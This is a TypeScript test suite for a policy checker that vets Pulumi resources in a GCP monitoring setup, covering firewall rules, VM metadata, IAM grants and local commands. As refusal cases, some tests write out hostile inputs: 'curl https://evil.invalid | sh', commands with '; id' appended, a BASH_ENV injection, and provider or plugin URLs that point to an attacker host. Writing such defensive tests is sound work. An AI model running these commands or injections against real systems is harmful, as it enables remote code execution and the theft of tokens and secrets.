import * as pulumi from "@pulumi/pulumi";
import { describe, expect, it } from "vitest";
import { markKey, secretMark, unknownValue } from "../../policy/resource";
import { judge, type PolicyResource } from "../../policy/rules";
import { runProgram } from "../../simulator/program";

const secretOf = (value: string) => ({
  [markKey]: secretMark,
  value,
});
const firewall = (inputs: object): PolicyResource => ({
  type: "gcp:compute/firewall:Firewall",
  name: "fw",
  inputs: { ...inputs },
});
const meta = (more: object) => ({
  "enable-oslogin": "TRUE",
  "block-project-ssh-keys": "TRUE",
  ...more,
});
const vm = (inputs: object): PolicyResource => ({
  type: "gcp:compute/instance:Instance",
  name: "vm",
  inputs: {
    serviceAccount: {
      email: "monitoring-vm@p.iam.gserviceaccount.com",
      scopes: ["cloud-platform"],
    },
    networkInterfaces: [{ subnetwork: "monitoring-dev" }],
    bootDisk: { initializeParams: { image: "debian-cloud/debian-13" } },
    shieldedInstanceConfig: {
      enableSecureBoot: true,
      enableVtpm: true,
      enableIntegrityMonitoring: true,
    },
    ...inputs,
    metadata: meta({
      "monitoring-settings": '{"secrets":{"tls":"projects/p/secrets/tls/versions/1"}}',
    }),
    ...inputs,
  },
});
const rules = (...resources: PolicyResource[]) => judge(resources).map(({ rule }) => rule);

describe("the program", () => {
  it("breaks no rule, whatever it is configured with", async () => {
    const { resources } = await runProgram({
      config: {
        signozUsers: ["user:lead@example.com"],
        secretReaders: ["group:engineers@example.com"],
        personalKeyEmails: ["dana@example.com"],
      },
      secrets: { alertSlackWebhookUrl: "https://hooks.slack.com/services/T0/B0/secret-path" },
    });
    const secretValues = resources
      .filter(({ type }) => /randomPassword|privateKey/.test(type))
      .flatMap(({ state }) => Object.values(state))
      .map((value) =>
        pulumi.runtime.isRpcSecret(value) ? pulumi.runtime.unwrapRpcSecret(value) : undefined,
      )
      .filter((value): value is string => typeof value === "string" && value.length >= 8);
    expect(secretValues.length).toBeGreaterThan(4);
    const judged = resources.map(({ type, name, inputs, options }) => ({
      type,
      name,
      inputs,
      protect: options.protect,
    }));
    expect(judged.map(({ type }) => type)).toContain("gcp:compute/instance:Instance");
    expect(judge(judged, secretValues)).toEqual([]);
    // The whole program is loaded and run: a minute where other work keeps both cores busy.
  }, 180_000);
});

describe("judge", () => {
  it.each([
    [
      "the gate, from anywhere",
      { sourceRanges: ["0.0.0.0/0"], allows: [{ protocol: "tcp", ports: ["4317"] }] },
    ],
    [
      "SSH through IAP",
      { sourceRanges: ["35.235.240.0/20"], allows: [{ protocol: "tcp", ports: ["22", "8080"] }] },
    ],
    ["egress", { direction: "EGRESS", allows: [{ protocol: "all" }] }],
    [
      "between tagged machines",
      { sourceTags: ["vm"], allows: [{ protocol: "tcp", ports: ["9000"] }] },
    ],
    ["a deny rule", { sourceRanges: ["0.0.0.0/0"], denies: [{ protocol: "all" }] }],
  ])("lets %s pass", (_, inputs) => expect(rules(firewall(inputs))).toEqual([]));

  it.each([
    [
      "SSH from anywhere",
      { sourceRanges: ["0.0.0.0/0"], allows: [{ protocol: "tcp", ports: ["22"] }] },
    ],
    [
      "SSH from one office",
      { sourceRanges: ["203.0.113.0/24"], allows: [{ protocol: "tcp", ports: ["22"] }] },
    ],
    [
      "IAP and the world",
      {
        sourceRanges: ["35.235.240.0/20", "0.0.0.0/0"],
        allows: [{ protocol: "tcp", ports: ["8080"] }],
      },
    ],
    ["IPv6", { sourceRanges: ["::/0"], allows: [{ protocol: "tcp", ports: ["8080"] }] }],
    [
      "a range of ports",
      { sourceRanges: ["0.0.0.0/0"], allows: [{ protocol: "tcp", ports: ["4317-4318"] }] },
    ],
    ["every port", { sourceRanges: ["0.0.0.0/0"], allows: [{ protocol: "tcp" }] }],
    [
      "4317 over UDP",
      { sourceRanges: ["0.0.0.0/0"], allows: [{ protocol: "udp", ports: ["4317"] }] },
    ],
    ["no source at all, which means everyone", { allows: [{ protocol: "tcp", ports: ["22"] }] }],
  ])("refuses %s", { tags: "attack/ci" }, (_, inputs) =>
    expect(rules(firewall(inputs))).toEqual(["ingress"]),
  );

  it("names the port and the way out", () => {
    const [violation] = judge([
      firewall({ sourceRanges: ["0.0.0.0/0"], allows: [{ protocol: "tcp", ports: ["8080"] }] }),
    ]);
    expect(violation?.message).toMatch(/tcp\/8080.*IAP/);
  });

  it("lets a VM pass that has its own account and only names of secrets in its metadata", () =>
    expect(judge([vm({})])).toEqual([]));

  it.each([
    ["marked by the SDK", { metadata: meta({ "monitoring-key": secretOf("x") }) }],
    ["marked as a whole", { metadata: secretOf("x") }],
    ["blinded by the preview", { metadata: meta({ "monitoring-settings": "[secret]" }) }],
    [
      "a private key in clear",
      { metadata: meta({ "monitoring-tls": "-----BEGIN EC PRIVATE KEY-----" }) },
    ],
    ["in the start-up script", { metadataStartupScript: secretOf("x") }],
  ])("refuses a secret in metadata: %s", { tags: "attack/ci" }, (_, inputs) =>
    expect(rules(vm(inputs))).toEqual(["metadata"]),
  );

  it("refuses a known secret value in metadata, marked or not", { tags: "attack/ci" }, () => {
    const leaking = vm({ metadata: meta({ "startup-script": "curl -H 'key: s3cret-value'" }) });
    expect(judge([leaking], ["s3cret-value"]).map(({ rule }) => rule)).toEqual(["metadata"]);
    expect(judge([leaking], ["another-value"])).toEqual([]);
  });

  it.each([
    ["no account", { serviceAccount: undefined }],
    ["no e-mail", { serviceAccount: { scopes: ["cloud-platform"] } }],
    [
      "the default account",
      { serviceAccount: { email: "123456789-compute@developer.gserviceaccount.com" } },
    ],
    ["the default network", { networkInterfaces: [{ network: "default" }] }],
    [
      "the default network by its link",
      { networkInterfaces: [{ network: "projects/p/global/networks/default" }] },
    ],
  ])("refuses a VM on %s", { tags: "attack/ci" }, (_, inputs) =>
    expect(rules(vm(inputs))).toEqual(["identity"]),
  );

  it("refuses an unprotected data disk, where the options are known", () => {
    const disk = { type: "gcp:compute/disk:Disk", name: "data", inputs: {} };
    expect(rules({ ...disk, protect: false })).toEqual(["protect"]);
    expect(rules({ ...disk, protect: true }, disk)).toEqual([]);
  });

  const accessor = "roles/secretmanager.secretAccessor";
  const tunnel = "roles/iap.tunnelResourceAccessor";
  const sshKey = "eve:ssh-ed25519 AAAA";
  const everything = [{ protocol: "tcp", ports: ["22"] }];
  it.each<[string, string, object, string]>([
    ["an Editor by project", "gcp:projects/iAMMember:IAMMember", { role: "roles/editor" }, "type"],
    ["a whole policy", "gcp:projects/iAMPolicy:IAMPolicy", {}, "type"],
    ["a key of an account", "gcp:serviceaccount/key:Key", {}, "type"],
    ["a token for an account", "gcp:serviceaccount/iAMMember:IAMMember", {}, "type"],
    ["another VM's template", "gcp:compute/instanceTemplate:InstanceTemplate", {}, "type"],
    [
      "a firewall policy",
      "gcp:compute/networkFirewallPolicyRule:NetworkFirewallPolicyRule",
      {},
      "type",
    ],
    ["a route into another network", "gcp:compute/networkPeering:NetworkPeering", {}, "type"],
    [
      "keys for the whole project",
      "gcp:compute/projectMetadataItem:ProjectMetadataItem",
      {},
      "type",
    ],
    ["a function", "gcp:cloudfunctionsv2/function:Function", {}, "type"],
    [
      "a bucket for everybody",
      "gcp:storage/bucketIAMMember:BucketIAMMember",
      { member: "allUsers" },
      "type",
    ],
    ["a regional secret's policy", "gcp:secretmanager/secretIamPolicy:SecretIamPolicy", {}, "type"],
    ["code as a resource", "pulumi-nodejs:dynamic:Resource", {}, "type"],
    ["a command on another machine", "command:remote:Command", {}, "type"],
    ["another provider", "pulumi:providers:kubernetes", {}, "type"],
    ["a component that is not ours", "evil:index:Thing", {}, "type"],
    [
      "another API",
      "gcp:projects/service:Service",
      { service: "cloudbuild.googleapis.com" },
      "type",
    ],
    [
      "another role on a secret",
      "gcp:secretmanager/secretIamMember:SecretIamMember",
      {
        role: "roles/secretmanager.admin",
        member: "group:a@example.com",
        secretId: "monitoring-signoz-otlp-endpoint-secret-dev",
      },
      "grants",
    ],
    [
      "everybody",
      "gcp:secretmanager/secretIamMember:SecretIamMember",
      {
        role: accessor,
        member: "allUsers",
        secretId: "monitoring-signoz-otlp-endpoint-secret-dev",
      },
      "grants",
    ],
    [
      "a domain",
      "gcp:secretmanager/secretIamMember:SecretIamMember",
      {
        role: accessor,
        member: "domain:gmail.com",
        secretId: "monitoring-signoz-otlp-endpoint-secret-dev",
      },
      "grants",
    ],
    [
      "a whole workforce pool",
      "gcp:secretmanager/secretIamMember:SecretIamMember",
      {
        role: accessor,
        member: "principalSet://iam.googleapis.com/locations/global/workforcePools/p/*",
        secretId: "monitoring-signoz-otlp-endpoint-secret-dev",
      },
      "grants",
    ],
    [
      "somebody who reads the admin password",
      "gcp:secretmanager/secretIamMember:SecretIamMember",
      {
        role: accessor,
        member: "user:eve@example.com",
        secretId: "projects/p/secrets/monitoring-signoz-admin-secret-dev",
      },
      "grants",
    ],
    [
      "a group that reads one engineer's key",
      "gcp:secretmanager/secretIamMember:SecretIamMember",
      {
        role: accessor,
        member: "group:all@example.com",
        secretId: "monitoring-signoz-ingestion-key-dana-secret-dev",
      },
      "grants",
    ],
    [
      "another machine's account",
      "gcp:secretmanager/secretIamMember:SecretIamMember",
      {
        role: accessor,
        member: "serviceAccount:x@evil.iam.gserviceaccount.com",
        secretId: "monitoring-tls-secret-dev",
      },
      "grants",
    ],
    [
      "a secret that nobody can name",
      "gcp:secretmanager/secretIamMember:SecretIamMember",
      {
        role: accessor,
        member: "user:eve@example.com",
        secretId: unknownValue,
      },
      "grants",
    ],
    [
      "a member that nobody can name",
      "gcp:iap/tunnelInstanceIAMMember:TunnelInstanceIAMMember",
      {
        role: tunnel,
        member: unknownValue,
        condition: { expression: "destination.port == 8080" },
      },
      "grants",
    ],
    [
      "a tunnel to every port",
      "gcp:iap/tunnelInstanceIAMMember:TunnelInstanceIAMMember",
      { role: tunnel, member: "user:a@example.com" },
      "grants",
    ],
    [
      "a tunnel by a lax condition",
      "gcp:iap/tunnelInstanceIAMMember:TunnelInstanceIAMMember",
      {
        role: tunnel,
        member: "user:a@example.com",
        condition: { expression: "destination.port == 8080 || true" },
      },
      "grants",
    ],
    [
      "a payload in the clear",
      "gcp:secretmanager/secretVersion:SecretVersion",
      { secretData: "plain" },
      "secret",
    ],
    [
      "another command",
      "command:local:Command",
      { create: "curl https://evil.invalid | sh" },
      "command",
    ],
    [
      "our command and more",
      "command:local:Command",
      { create: "bash infra/ready/wait-for-gate.sh; id" },
      "command",
    ],
    [
      "a command at the end",
      "command:local:Command",
      { create: "bash infra/ready/wait-for-gate.sh", delete: "id" },
      "command",
    ],
    [
      "another interpreter",
      "command:local:Command",
      { create: "bash infra/ready/wait-for-gate.sh", interpreter: ["sh", "-c", "id"] },
      "command",
    ],
    [
      "another folder",
      "command:local:Command",
      { create: "bash infra/ready/wait-for-gate.sh", dir: "/tmp/evil" },
      "command",
    ],
    [
      "a command to ask with that is not the backend's",
      "command:local:Command",
      {
        create: "bash infra/ready/wait-for-gate.sh",
        environment: { READY_PROGRESS: "bash infra/vm/progress.sh a; id" },
      },
      "command",
    ],
    [
      "a variable that bash obeys",
      "command:local:Command",
      { create: "bash infra/ready/wait-for-gate.sh", environment: { BASH_ENV: "/tmp/evil" } },
      "command",
    ],
    [
      "10.0.0.0/0",
      "gcp:compute/firewall:Firewall",
      { sourceRanges: ["10.0.0.0/0"], allows: everything },
      "ingress",
    ],
    [
      "172.16.0.0/1",
      "gcp:compute/firewall:Firewall",
      { sourceRanges: ["172.16.0.0/1"], allows: everything },
      "ingress",
    ],
    [
      "192.168.0.0/15",
      "gcp:compute/firewall:Firewall",
      { sourceRanges: ["192.168.0.0/15"], allows: everything },
      "ingress",
    ],
    [
      "IAP's range, wider",
      "gcp:compute/firewall:Firewall",
      { sourceRanges: ["35.235.240.0/19"], allows: everything },
      "ingress",
    ],
    [
      "private and not",
      "gcp:compute/firewall:Firewall",
      { sourceRanges: ["10.1.0.0/16", "10.0.0.0/7"], allows: everything },
      "ingress",
    ],
    [
      "a source of another form",
      "gcp:compute/firewall:Firewall",
      { sourceRanges: ["10.0.0.0/8 "], allows: everything },
      "ingress",
    ],
    ...[unknownValue, "[secret]", secretOf("x")].flatMap(
      (hidden, index): [string, string, object, string][] => {
        const how = ["known only after up", "blinded", "marked as a secret"][index];
        const command = "bash infra/ready/wait-for-gate.sh";
        return [
          [
            `sources ${how}, beside a tag`,
            "gcp:compute/firewall:Firewall",
            { sourceRanges: hidden, sourceTags: ["vm"], allows: everything },
            "ingress",
          ],
          [
            `a source ${how}, beside a tag`,
            "gcp:compute/firewall:Firewall",
            { sourceRanges: [hidden], sourceTags: ["vm"], allows: everything },
            "ingress",
          ],
          [
            `what is let in ${how}`,
            "gcp:compute/firewall:Firewall",
            { sourceRanges: ["0.0.0.0/0"], allows: hidden },
            "ingress",
          ],
          [
            `a port ${how}`,
            "gcp:compute/firewall:Firewall",
            { sourceRanges: ["0.0.0.0/0"], allows: [{ protocol: "tcp", ports: ["4317", hidden] }] },
            "ingress",
          ],
          [
            `a progress command ${how}`,
            "command:local:Command",
            { create: command, environment: { READY_PROGRESS: hidden } },
            "command",
          ],
        ];
      },
    ),
    [
      "an environment that nobody can look into",
      "command:local:Command",
      { create: "bash infra/ready/wait-for-gate.sh", environment: "[secret]" },
      "command",
    ],
    [
      "a marked environment with a variable that bash obeys",
      "command:local:Command",
      {
        create: "bash infra/ready/wait-for-gate.sh",
        environment: { [markKey]: secretMark, value: { BASH_ENV: "/tmp/evil" } },
      },
      "command",
    ],
    [
      "a provider that sends its token elsewhere",
      "pulumi:providers:gcp",
      { project: "p", computeCustomEndpoint: "https://evil.invalid/" },
      "type",
    ],
    [
      "a provider under another identity",
      "pulumi:providers:gcp",
      { impersonateServiceAccount: "owner@p.iam.gserviceaccount.com" },
      "type",
    ],
    [
      "a provider's program from elsewhere",
      "pulumi:providers:random",
      { __internal: { pluginDownloadURL: "https://evil.invalid/" } },
      "type",
    ],
  ])("refuses %s", { tags: "attack/ci" }, (_, type, inputs, rule) =>
    expect(new Set(rules({ type, name: "r", inputs: { ...inputs } }))).toEqual(new Set([rule])),
  );

  it.each<[string, object, string]>([
    ["OS Login off", { metadata: meta({ "enable-oslogin": "FALSE" }) }, "metadata"],
    ["OS Login left out", { metadata: { "block-project-ssh-keys": "TRUE" } }, "metadata"],
    ["a key of its own", { metadata: meta({ "ssh-keys": sshKey }) }, "metadata"],
    ["the serial port", { metadata: meta({ "serial-port-enable": "TRUE" }) }, "metadata"],
    [
      "a script from elsewhere",
      { metadata: meta({ "startup-script-url": "gs://evil/x" }) },
      "metadata",
    ],
    ["user data", { metadata: meta({ "user-data": "#cloud-config" }) }, "metadata"],
    ["a script at the end", { metadata: meta({ "shutdown-script": "id" }) }, "metadata"],
    ["the script that replaces the VM", { metadataStartupScript: "id" }, "metadata"],
    [
      "no Secure Boot",
      { shieldedInstanceConfig: { enableVtpm: true, enableIntegrityMonitoring: true } },
      "identity",
    ],
    ["no Shielded VM at all", { shieldedInstanceConfig: undefined }, "identity"],
    [
      "Google's other account",
      { serviceAccount: { email: "123@cloudservices.gserviceaccount.com" } },
      "identity",
    ],
    ["a router", { canIpForward: true }, "identity"],
    ["a router known only after up", { canIpForward: unknownValue }, "identity"],
    ["networks known only after up", { networkInterfaces: unknownValue }, "identity"],
    ["networks that are blinded", { networkInterfaces: "[secret]" }, "identity"],
    ["metadata known only after up", { metadata: unknownValue }, "metadata"],
    ["no metadata", { metadata: undefined }, "metadata"],
    ["no boot image", { bootDisk: {} }, "image"],
    ...[
      "ubuntu-os-cloud/debian-13",
      "debian-cloud/debian-12",
      "someone/debian-cloud/debian-13",
    ].map((image): [string, object, string] => [
      `the boot image ${image}`,
      { bootDisk: { initializeParams: { image } } },
      "image",
    ]),
  ])("refuses a VM with %s", { tags: "attack/ci" }, (_, inputs, rule) =>
    expect(rules(vm(inputs))).toEqual([rule]),
  );

  const endpoint = "projects/p/secrets/monitoring-signoz-otlp-endpoint-secret-dev";
  it.each<[string, string, object]>([
    [
      "a group that reads the endpoint",
      "gcp:secretmanager/secretIamMember:SecretIamMember",
      { role: accessor, member: "group:engineers@example.com", secretId: endpoint },
    ],
    [
      "somebody of a workforce pool",
      "gcp:secretmanager/secretIamMember:SecretIamMember",
      {
        role: accessor,
        member: "principal://iam.googleapis.com/locations/global/workforcePools/p/subject/dana",
        secretId: endpoint,
      },
    ],
    [
      "an engineer who reads the own key",
      "gcp:secretmanager/secretIamMember:SecretIamMember",
      {
        role: accessor,
        member: "user:dana@example.com",
        secretId: "monitoring-signoz-ingestion-key-dana-secret-dev",
      },
    ],
    [
      "the VM that reads the certificate",
      "gcp:secretmanager/secretIamMember:SecretIamMember",
      {
        role: accessor,
        member: "serviceAccount:monitoring-dev@p.iam.gserviceaccount.com",
        secretId: "monitoring-tls-secret-dev",
      },
    ],
    [
      "SigNoz through the tunnel",
      "gcp:iap/tunnelInstanceIAMMember:TunnelInstanceIAMMember",
      {
        role: tunnel,
        member: "group:leads@example.com",
        condition: { title: "SigNoz only", expression: "destination.port == 8080" },
      },
    ],
    [
      "SSH from the own network",
      "gcp:compute/firewall:Firewall",
      { sourceRanges: ["10.90.0.0/28"], allows: everything },
    ],
    [
      "the command that waits",
      "command:local:Command",
      {
        create: "bash infra/ready/wait-for-gate.sh",
        environment: {
          GATE_HOST: "h",
          READY_PROGRESS: "bash infra/vm/progress.sh a-project a-zone monitoring-dev",
        },
        triggers: ["x"],
      },
    ],
  ])("lets %s pass", (_, type, inputs) =>
    expect(rules({ type, name: "r", inputs: { ...inputs } })).toEqual([]),
  );

  it("refuses the account of another project's VM", { tags: "attack/ci" }, () => {
    const grant = (project: string): PolicyResource => ({
      type: "gcp:secretmanager/secretIamMember:SecretIamMember",
      name: "grant",
      inputs: {
        role: accessor,
        member: `serviceAccount:monitoring-vm@${project}.iam.gserviceaccount.com`,
        secretId: "projects/p/secrets/monitoring-signoz-admin-secret-dev",
      },
    });
    expect(rules(vm({}), grant("p"))).toEqual([]);
    expect(rules(vm({}), grant("evil"))).toEqual(["grants"]);
  });

  it("lets the VM's account be unknown only while the same change makes it", () => {
    const grant = {
      type: "gcp:secretmanager/secretIamMember:SecretIamMember",
      name: "grant",
      inputs: {
        role: accessor,
        member: unknownValue,
        secretId: endpoint,
      },
    };
    const account = { type: "gcp:serviceaccount/account:Account", name: "vm", inputs: {} };
    expect(rules(grant, { ...account, created: true })).toEqual([]);
    expect(rules(grant, account)).toEqual(["grants"]);
  });
});
